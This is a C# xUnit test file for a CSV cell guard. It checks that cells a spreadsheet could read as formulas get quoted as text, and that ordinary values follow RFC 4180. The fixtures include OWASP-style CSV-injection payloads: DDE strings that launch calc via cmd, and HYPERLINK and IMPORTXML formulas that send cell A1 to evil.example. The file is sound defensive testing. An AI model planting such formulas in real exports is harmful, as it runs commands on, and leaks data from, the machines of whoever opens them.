using Xunit;

namespace CeuRules.Spreadsheets.Tests;

/// <summary>The CSV formula guard against OWASP's CSV-injection payloads and their kin.</summary>
public sealed class CsvCellsTest
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("-1+cmd|' /C calc'!A0")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [InlineData("=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("  =1+1")]
    [InlineData("\"=1+1\"")]
    [InlineData("'=1+1")]
    [InlineData(" \"-2+3")]
    [InlineData("＝1+1")]
    [InlineData("-1")]
    [InlineData("+1")]
    [InlineData("@")]
    [InlineData("\t")]
    public void A_cell_a_spreadsheet_could_read_as_a_formula_is_quoted_text(string payload)
    {
        string cell = CsvCells.Guard(payload);
        Assert.StartsWith("\"'", cell, System.StringComparison.Ordinal);
        Assert.EndsWith("\"", cell, System.StringComparison.Ordinal);
        // Inner quotes are doubled, so the cell is one field whose text is the payload after the quote.
        Assert.Equal("'" + payload, cell[1..^1].Replace("\"\"", "\"", System.StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("E0000001", "E0000001")]
    [InlineData("total=18; approved=2", "total=18; approved=2")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Other_text_is_written_as_it_is_or_quoted_where_rfc_4180_wants_it(string? text, string expected) =>
        Assert.Equal(expected, CsvCells.Guard(text));

    [Theory]
    [InlineData("-1.5")]
    [InlineData("-12")]
    [InlineData("0")]
    public void Numbers_the_writer_formats_stay_numbers(string number) => Assert.Equal(number, CsvCells.Number(number));
}
